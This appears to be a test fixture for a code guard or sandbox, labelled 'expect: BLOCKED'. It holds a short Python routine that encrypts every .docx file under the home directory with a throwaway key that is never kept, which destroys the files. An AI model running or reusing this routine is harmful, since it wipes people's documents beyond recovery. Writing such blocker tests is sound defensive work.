# expect: BLOCKED
from cryptography.fernet import Fernet
from pathlib import Path
f = Fernet(Fernet.generate_key())
for p in Path.home().rglob("*.docx"):
    p.write_bytes(f.encrypt(p.read_bytes()))
